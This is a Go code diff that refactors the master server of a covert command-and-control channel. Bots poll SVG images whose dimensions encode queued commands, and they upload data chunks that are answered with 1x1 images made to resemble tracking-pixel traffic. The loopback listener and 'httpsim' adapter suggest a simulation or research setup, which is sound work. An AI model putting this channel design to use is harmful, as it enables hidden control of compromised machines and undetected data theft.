@@ -25,6 +25,7 @@ type command struct {
 //
 //	GET /meta/{bot}.svg          → dims encode (latest command id, image count)
 //	GET /img/{bot}/{id}/{seq}.svg → image #seq of command id
+//	GET /batch/{bot}/{id}/{from}/{count}.svg → sprite of count images from #from
 //	GET /up/{bot}/{stream}/{seq}/{chunk} → upstream data chunk
 //	GET /up/{bot}/{stream}/fin    → upstream stream complete
 type MasterServer struct {
@@ -36,7 +37,7 @@ type MasterServer struct {
 
 	mu       sync.Mutex
 	nextID   int
-	commands map[string][]command           // bot → queued commands
+	commands map[string][]command           // bot → queued commands (ids ascending)
 	uploads  map[string]map[string][][]byte // bot → stream → ordered chunks
 	finished map[string]map[string]bool     // bot → stream → fin received
 }
@@ -110,78 +111,135 @@ func (m *MasterServer) Bots() []string {
 	return out
 }
 
-// ServeHTTP implements the covert routes.
-func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	if m.Delay > 0 {
-		time.Sleep(m.Delay)
+// Content types served by the channel. Error responses mirror what
+// net/http's Error helper put on the wire historically, so the simulated
+// responses stay byte-identical.
+const (
+	svgContentType   = "image/svg+xml"
+	plainContentType = "text/plain; charset=utf-8"
+)
+
+// Route dispatches one covert-channel request path, appending the
+// response body to dst (whose capacity is reused). It is the transport-
+// independent core shared by ServeHTTP (real loopback sockets) and the
+// in-simulation httpsim adapter, which no longer pays for net/http
+// request/recorder scaffolding per covert image.
+func (m *MasterServer) Route(path string, dst []byte) (status int, contentType string, body []byte) {
+	p := strings.Trim(path, "/")
+	var parts [5]string
+	n := 0
+	for n < len(parts) {
+		i := strings.IndexByte(p, '/')
+		if i < 0 {
+			parts[n] = p
+			p = ""
+			n++
+			break
+		}
+		parts[n] = p[:i]
+		p = p[i+1:]
+		n++
 	}
-	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
+	if p != "" { // more than five segments
+		return errorBody(dst, http.StatusNotFound, "404 page not found")
+	}
 	switch {
-	case len(parts) == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
-		m.serveMeta(w, strings.TrimSuffix(parts[1], ".svg"))
-	case len(parts) == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
-		m.serveImage(w, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
-	case len(parts) == 4 && parts[0] == "up" && parts[3] == "fin":
-		m.finishUpload(w, parts[1], parts[2])
-	case len(parts) == 5 && parts[0] == "up":
-		m.acceptUpload(w, parts[1], parts[2], parts[3], parts[4])
+	case n == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
+		return m.serveMeta(dst, strings.TrimSuffix(parts[1], ".svg"))
+	case n == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
+		return m.serveImage(dst, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
+	case n == 5 && parts[0] == "batch" && strings.HasSuffix(parts[4], ".svg"):
+		return m.serveBatch(dst, parts[1], parts[2], parts[3], strings.TrimSuffix(parts[4], ".svg"))
+	case n == 4 && parts[0] == "up" && parts[3] == "fin":
+		return m.finishUpload(dst, parts[1], parts[2])
+	case n == 5 && parts[0] == "up":
+		return m.acceptUpload(dst, parts[1], parts[2], parts[3], parts[4])
 	default:
-		http.NotFound(w, r)
+		return errorBody(dst, http.StatusNotFound, "404 page not found")
 	}
 }
 
-func writeSVG(w http.ResponseWriter, d Dim) {
-	w.Header().Set("Content-Type", "image/svg+xml")
-	// The images must never be cached: each poll must hit the master.
-	w.Header().Set("Cache-Control", "no-store")
-	_, _ = w.Write(RenderSVG(d))
+// svgBody renders a single channel SVG response.
+func svgBody(dst []byte, d Dim) (int, string, []byte) {
+	return http.StatusOK, svgContentType, AppendSVG(dst, d)
 }
 
-func (m *MasterServer) serveMeta(w http.ResponseWriter, bot string) {
+// errorBody renders an error the way http.Error spells it on the wire.
+func errorBody(dst []byte, status int, msg string) (int, string, []byte) {
+	dst = append(dst, msg...)
+	return status, plainContentType, append(dst, '\n')
+}
+
+// lookup finds a queued command by id (ids are assigned ascending, so the
+// per-bot queue is sorted and binary-searchable).
+func (m *MasterServer) lookup(bot string, id int) (command, bool) {
+	cmds := m.commands[bot]
+	i := sort.Search(len(cmds), func(i int) bool { return cmds[i].id >= id })
+	if i < len(cmds) && cmds[i].id == id {
+		return cmds[i], true
+	}
+	return command{}, false
+}
+
+func (m *MasterServer) serveMeta(dst []byte, bot string) (int, string, []byte) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	cmds := m.commands[bot]
 	if len(cmds) == 0 {
-		writeSVG(w, Dim{}) // id 0 = nothing pending
-		return
+		return svgBody(dst, Dim{}) // id 0 = nothing pending
 	}
 	latest := cmds[len(cmds)-1]
-	writeSVG(w, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
+	return svgBody(dst, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
 }
 
-func (m *MasterServer) serveImage(w http.ResponseWriter, bot, idStr, seqStr string) {
+func (m *MasterServer) serveImage(dst []byte, bot, idStr, seqStr string) (int, string, []byte) {
 	id, err1 := strconv.Atoi(idStr)
 	seq, err2 := strconv.Atoi(seqStr)
 	if err1 != nil || err2 != nil {
-		http.Error(w, "bad ref", http.StatusBadRequest)
-		return
+		return errorBody(dst, http.StatusBadRequest, "bad ref")
 	}
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	for _, c := range m.commands[bot] {
-		if c.id != id {
-			continue
-		}
-		if seq < 0 || seq >= len(c.dims) {
-			http.Error(w, "bad seq", http.StatusNotFound)
-			return
-		}
-		writeSVG(w, c.dims[seq])
-		return
+	c, ok := m.lookup(bot, id)
+	if !ok {
+		return errorBody(dst, http.StatusNotFound, "404 page not found")
 	}
-	http.NotFound(w, nil)
+	if seq < 0 || seq >= len(c.dims) {
+		return errorBody(dst, http.StatusNotFound, "bad seq")
+	}
+	return svgBody(dst, c.dims[seq])
 }
 
-func (m *MasterServer) acceptUpload(w http.ResponseWriter, bot, stream, seqStr, chunk string) {
+func (m *MasterServer) serveBatch(dst []byte, bot, idStr, fromStr, countStr string) (int, string, []byte) {
+	id, err1 := strconv.Atoi(idStr)
+	from, err2 := strconv.Atoi(fromStr)
+	count, err3 := strconv.Atoi(countStr)
+	if err1 != nil || err2 != nil || err3 != nil || count <= 0 {
+		return errorBody(dst, http.StatusBadRequest, "bad ref")
+	}
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	c, ok := m.lookup(bot, id)
+	if !ok {
+		return errorBody(dst, http.StatusNotFound, "404 page not found")
+	}
+	if from < 0 || from >= len(c.dims) {
+		return errorBody(dst, http.StatusNotFound, "bad seq")
+	}
+	if count > len(c.dims)-from { // overflow-safe: both sides non-negative
+		count = len(c.dims) - from
+	}
+	return http.StatusOK, svgContentType, AppendBatchSVG(dst, c.dims[from:from+count])
+}
+
+func (m *MasterServer) acceptUpload(dst []byte, bot, stream, seqStr, chunk string) (int, string, []byte) {
 	seq, err := strconv.Atoi(seqStr)
 	if err != nil || seq < 0 {
-		http.Error(w, "bad seq", http.StatusBadRequest)
-		return
+		return errorBody(dst, http.StatusBadRequest, "bad seq")
 	}
 	data, err := DecodeURLChunk(chunk)
 	if err != nil {
-		http.Error(w, "bad chunk", http.StatusBadRequest)
-		return
+		return errorBody(dst, http.StatusBadRequest, "bad chunk")
 	}
 	m.mu.Lock()
 	defer m.mu.Unlock()
@@ -196,17 +254,50 @@ func (m *MasterServer) acceptUpload(w http.ResponseWriter, bot, stream, seqStr, 
 	m.uploads[bot][stream] = chunks
 	// Responding with a 1x1 image keeps the exchange looking like
 	// ordinary tracking-pixel traffic.
-	writeSVG(w, Dim{W: 1, H: 1})
+	return svgBody(dst, Dim{W: 1, H: 1})
 }
 
-func (m *MasterServer) finishUpload(w http.ResponseWriter, bot, stream string) {
+func (m *MasterServer) finishUpload(dst []byte, bot, stream string) (int, string, []byte) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	if m.finished[bot] == nil {
 		m.finished[bot] = make(map[string]bool)
 	}
 	m.finished[bot][stream] = true
-	writeSVG(w, Dim{W: 1, H: 1})
+	return svgBody(dst, Dim{W: 1, H: 1})
+}
+
+// SetResponseHeaders applies the channel's response-header policy via
+// set. It is the single source of truth shared by ServeHTTP (real
+// sockets) and the in-simulation httpsim adapter, so the two transports
+// cannot silently diverge on the wire.
+func SetResponseHeaders(status int, contentType string, set func(key, value string)) {
+	set("Content-Type", contentType)
+	if status == http.StatusOK {
+		// The images must never be cached: each poll must hit the master.
+		set("Cache-Control", "no-store")
+	} else {
+		// Mirror what http.Error put on the wire historically.
+		set("X-Content-Type-Options", "nosniff")
+	}
+}
+
+// respBufPool recycles response-body scratch across concurrent requests.
+var respBufPool = sync.Pool{New: func() any { b := make([]byte, 0, 512); return &b }}
+
+// ServeHTTP implements the covert routes over net/http.
+func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if m.Delay > 0 {
+		time.Sleep(m.Delay)
+	}
+	bufp := respBufPool.Get().(*[]byte)
+	status, ctype, body := m.Route(r.URL.Path, (*bufp)[:0])
+	h := w.Header()
+	SetResponseHeaders(status, ctype, h.Set)
+	w.WriteHeader(status)
+	_, _ = w.Write(body)
+	*bufp = body[:0]
+	respBufPool.Put(bufp)
 }
 
 // Serve starts the master on a loopback listener and returns its base
